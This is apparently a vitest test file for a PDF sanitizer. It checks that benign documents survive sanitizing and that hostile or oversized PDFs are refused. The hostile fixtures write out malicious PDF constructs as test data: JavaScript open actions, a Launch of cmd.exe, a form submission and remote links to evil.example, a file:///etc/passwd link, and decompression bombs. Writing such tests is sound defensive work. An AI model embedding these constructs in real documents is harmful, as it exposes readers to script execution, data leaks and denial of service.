import { html, makeDocx, makePdf, objectStream } from '#test/fixtures/attachment-files.ts'
import { decodePDFRawStream, PDFDocument, PDFRawStream, StandardFonts } from '@cantoo/pdf-lib'
import { deflateSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { sanitizePdf } from './sanitize-pdf.ts'

const page = '/MediaBox [0 0 200 200]'

/** A PDF with additional entries in its catalog and page, and additional objects. */
function pdfWith(
  { catalog = '', pageEntries = '' }: { catalog?: string; pageEntries?: string },
  objects: readonly (string | Buffer)[] = [],
): Buffer {
  const whole = makePdf(objects).toString('latin1')
  return Buffer.from(
    whole
      .replace('/Type /Catalog', `/Type /Catalog ${catalog}`)
      .replace(page, `${page} ${pageEntries}`),
    'latin1',
  )
}

const link = (action: string) =>
  pdfWith({
    pageEntries: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << ${action} >> >>]`,
  })

/** An object stream without `/Type`. */
const untypedStream = (objects: string) =>
  Buffer.from(objectStream(objects).toString('latin1').replace('/Type /ObjStm', ''), 'latin1')

/** Decodes the content streams of the pages. */
async function contentsOf(file: Buffer): Promise<string[]> {
  const pdf = await PDFDocument.load(file)
  return pdf.getPages().map(({ node }) => {
    const contents = node.Contents()
    if (!(contents instanceof PDFRawStream)) return ''
    return Buffer.from(decodePDFRawStream(contents).decode()).toString('latin1')
  })
}

describe('a benign PDF', () => {
  it('keeps pages, fonts, images and links of a document from a PDF library', async () => {
    const pdf = await PDFDocument.create()
    const font = await pdf.embedFont(StandardFonts.Helvetica)
    for (const text of ['first', 'second']) pdf.addPage([300, 200]).drawText(text, { font })
    pdf.setTitle('영수증')
    for (const useObjectStreams of [true, false]) {
      const file = Buffer.from(await pdf.save({ useObjectStreams }))
      const clean = await sanitizePdf(file)
      expect(await contentsOf(clean)).toEqual(await contentsOf(file))
      const copy = await PDFDocument.load(clean, { updateMetadata: false })
      expect(copy.getPage(0).getSize()).toEqual({ width: 300, height: 200 })
      expect(copy.getTitle()).toBeUndefined()
    }
  })

  it('keeps a Chrome printout with marked content and a link, without tags and metadata', async () => {
    const contents = deflateSync('/P <</MCID 0>> BDC BT /F4 12 Tf (hi) Tj ET EMC')
    const file = pdfWith(
      {
        catalog: '/StructTreeRoot 6 0 R /Lang (ko) /MarkInfo << /Marked true >> /Outlines 7 0 R',
        pageEntries:
          '/StructParents 0 /Tabs /S /Contents 4 0 R /Resources << /Font << /F4 5 0 R >> /ProcSet [/PDF /Text] >> /Annots [<< /Type /Annot /Subtype /Link /Rect [1 2 3 4] /Border [0 0 0] /F 4 /StructParent 1 /A << /Type /Action /S /URI /URI (https://example.com/?a=\\(b\\)) >> >>]',
      },
      [
        Buffer.concat([
          Buffer.from(`4 0 obj\n<< /Filter /FlateDecode /Length ${contents.length} >>\nstream\n`),
          contents,
          Buffer.from('\nendstream\nendobj\n'),
        ]),
        '5 0 obj\n<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>\nendobj\n',
        '6 0 obj\n<< /Type /StructTreeRoot /K [] >>\nendobj\n',
        '7 0 obj\n<< /Count 0 >>\nendobj\n',
      ],
    )
    const clean = await sanitizePdf(file)
    expect(await contentsOf(clean)).toEqual(['/P <</MCID 0>> BDC BT /F4 12 Tf (hi) Tj ET EMC'])
    const text = Buffer.from(
      await (
        await PDFDocument.load(clean, { updateMetadata: false })
      ).save({ useObjectStreams: false }),
    ).toString('latin1')
    expect(text).toContain('/URI (https://example.com/?a=\\(b\\))')
    expect(text).toContain('/BaseFont /Helvetica')
    expect(text).not.toContain('StructTreeRoot')
  })

  it('keeps a phone scan with one JPEG per page', async () => {
    const scan = pdfWith(
      { pageEntries: '/Contents 4 0 R /Resources << /XObject << /Im0 5 0 R >> >>' },
      [
        '4 0 obj\n<< /Length 13 >>\nstream\nq /Im0 Do Q  \nendstream\nendobj\n',
        '5 0 obj\n<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode /Length 6 >>\nstream\nPIXELS\nendstream\nendobj\n',
      ],
    )
    expect((await sanitizePdf(scan)).includes('PIXELS')).toBe(true)
  })

  it('keeps glyphs and resources named like action keys', async () => {
    const file = pdfWith(
      { pageEntries: '/Contents 5 0 R /Resources << /Font << /A 4 0 R /P 4 0 R /JS 4 0 R >> >>' },
      [
        '4 0 obj\n<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /CharProcs << /A 5 0 R /P 5 0 R >> >>\nendobj\n',
        '5 0 obj\n<< /Length 6 >>\nstream\nGLYPHS\nendstream\nendobj\n',
      ],
    )
    const copy = await PDFDocument.load(await sanitizePdf(file))
    const fonts = copy.getPage(0).node.Resources()?.toString()
    expect(fonts).toMatch(/\/A .*\/P .*\/JS /s)
  })

  it('keeps the appearance of a form field without the form', async () => {
    const file = pdfWith(
      {
        catalog: '/AcroForm << /Fields [4 0 R] >>',
        pageEntries: '/Annots [4 0 R]',
      },
      [
        '4 0 obj\n<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (kim) /Rect [0 0 9 9] /AP << /N 5 0 R >> >>\nendobj\n',
        '5 0 obj\n<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Length 6 >>\nstream\nDRAWN!\nendstream\nendobj\n',
      ],
    )
    const clean = await sanitizePdf(file)
    expect(clean.includes('DRAWN!')).toBe(true)
    expect((await PDFDocument.load(clean)).catalog.has).toBeTypeOf('function')
    expect((await PDFDocument.load(clean)).catalog.toString()).not.toContain('AcroForm')
  })

  it('drops data after the document and unreferenced objects', async () => {
    const clean = await sanitizePdf(
      Buffer.concat([makePdf(['8 0 obj\n(UNUSED)\nendobj\n']), makeDocx(), Buffer.from(html)]),
    )
    expect(clean.includes('UNUSED')).toBe(false)
    expect(clean.includes('PK\x03\x04')).toBe(false)
    expect(clean.includes('<html>')).toBe(false)
  })
})

describe('a hostile PDF', () => {
  const script = '<< /S /JavaScript /JS (app.alert(1)) >>'
  const stream = (entries: string) =>
    `4 0 obj\n<< ${entries} /Length 1 >>\nstream\nx\nendstream\nendobj\n`
  const withForm = (entries: string) =>
    pdfWith({ pageEntries: '/Resources << /XObject << /X 4 0 R >> >>' }, [stream(entries)])

  it.each<[string, Buffer]>([
    ['nothing but a header', Buffer.from('%PDF-1.7')],
    [
      'no pages',
      Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n'),
    ],
    ['a script when it is opened', pdfWith({ catalog: `/OpenAction ${script}` })],
    [
      'a script in its names',
      pdfWith({ catalog: `/Names << /JavaScript << /Names [(a) ${script}] >> >>` }),
    ],
    ['a script in escaped letters', pdfWith({ catalog: '/OpenAction << /S /J#61vaScript >>' })],
    ['a script that nothing refers to', makePdf([`4 0 obj\n${script}\nendobj\n`])],
    [
      'a script in an object stream',
      pdfWith({ catalog: '/OpenAction 7 0 R' }, [objectStream(`7 0 ${script}`)]),
    ],
    [
      'a script in an object stream without a type',
      pdfWith({ catalog: '/OpenAction 7 0 R' }, [untypedStream(`7 0 ${script}`)]),
    ],
    ['an object stream without a type alone', makePdf([untypedStream(`7 0 ${script}`)])],
    ['an action of another object when it is opened', pdfWith({ catalog: '/OpenAction 7 0 R' })],
    [
      'an address when it is opened',
      pdfWith({ catalog: '/OpenAction << /S /URI /URI (https://evil.example/) >>' }),
    ],
    [
      'an address when a page is opened',
      pdfWith({ pageEntries: '/AA << /O << /S /URI /URI (https://evil.example/) >> >>' }),
    ],
    ['actions of the document', pdfWith({ catalog: '/AA << /WC << /S /Named >> >>' })],
    ['a program', link('/S /Launch /F (cmd.exe)')],
    ['another file', link('/S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf) /D [0 /Fit]')],
    ['an embedded file', link('/S /GoToE /D [0 /Fit]')],
    ['a form that is sent', link('/S /SubmitForm /F (https://evil.example/)')],
    ['data that is imported', link('/S /ImportData /F (a.fdf)')],
    ['a local address', link('/S /URI /URI (file:///etc/passwd)')],
    ['an address that is a script', link('/S /URI /URI (javascript:alert\\(1\\))')],
    [
      'a second action',
      link('/S /URI /URI (https://example.com/) /Next << /S /Named /N /Print >>'),
    ],
    ['a command of the reader', link('/S /Named /N /Print')],
    ['an unknown action', link('/S /Unheard')],
    [
      'an action when the pointer enters',
      pdfWith({
        pageEntries: '/Annots [<< /Subtype /Widget /Rect [0 0 9 9] /AA << /E << /S /URI >> >> >>]',
      }),
    ],
    [
      'an attached file',
      pdfWith({ pageEntries: '/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] >>]' }),
    ],
    ['a film', pdfWith({ pageEntries: '/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]' })],
    ['an embedded file that nothing refers to', makePdf([stream('/Type /EmbeddedFile')])],
    ['embedded files', pdfWith({ catalog: '/Names << /EmbeddedFiles << /Names [] >> >>' })],
    ['a portfolio', pdfWith({ catalog: '/Collection << >>' })],
    ['an XFA form', pdfWith({ catalog: '/AcroForm << /XFA [] >>' })],
    ['contents in another file', withForm('/Subtype /Form /F (https://evil.example/a)')],
    ['a page of another file', withForm('/Subtype /Form /Ref << /F (a.pdf) >>')],
    ['PostScript', withForm('/Subtype /PS')],
    ['an unknown filter', withForm('/Subtype /Image /Filter /Crypt')],
    ['a password', makePdf(['trailer\n<< /Encrypt 5 0 R >>\n'])],
    [
      'pages that contain themselves',
      Buffer.from(makePdf().toString('latin1').replace('[3 0 R]', '[2 0 R]'), 'latin1'),
    ],
    [
      'nested arrays beyond the stack',
      makePdf([`4 0 obj\n${'['.repeat(500_000)}\nendobj\n`, 'startxref']),
    ],
  ])('is refused for %s', async (_, file) => {
    await expect(sanitizePdf(file)).rejects.toThrow()
  })
})

describe('a PDF that expands', () => {
  const mib = 1024 * 1024
  const stream = (filter: string, content: Buffer, more = '') =>
    Buffer.concat([
      Buffer.from(`4 0 obj\n<< ${more} /Filter ${filter} /Length ${content.length} >>\nstream\n`),
      content,
      Buffer.from('\nendstream\nendobj\n'),
    ])
  const zeros = (count: number) => deflateSync(Buffer.alloc(count * mib))
  const image = '/Type /XObject /Subtype /Image /Width 4000 /Height 4000'
  const page = { pageEntries: '/Contents 4 0 R' }
  const picture = { pageEntries: '/Resources << /XObject << /Im0 4 0 R >> >>' }

  it.for([
    ['a content stream', pdfWith(page, [stream('/FlateDecode', zeros(33))])],
    ['one deflated twice', pdfWith(page, [stream('[/Fl /Fl]', deflateSync(zeros(33)))])],
    ['run lengths', pdfWith(page, [stream('/RL', Buffer.alloc(270_000, Buffer.of(129, 0)))])],
    [
      'damaged data',
      pdfWith(page, [stream('/Fl', Buffer.concat([zeros(33), Buffer.alloc(9, 1)]))]),
    ],
    ['an image', pdfWith(picture, [stream('/FlateDecode', zeros(129), image)])],
  ] as const)('is rejected for %s', async ([, file]) => {
    await expect(sanitizePdf(file)).rejects.toThrow('decoded size')
  })

  it('is kept if its image has the size of several screenshots', async () => {
    const file = pdfWith(picture, [stream('/FlateDecode', zeros(48), image)])
    expect((await sanitizePdf(file)).includes('/Width 4000')).toBe(true)
  })
})
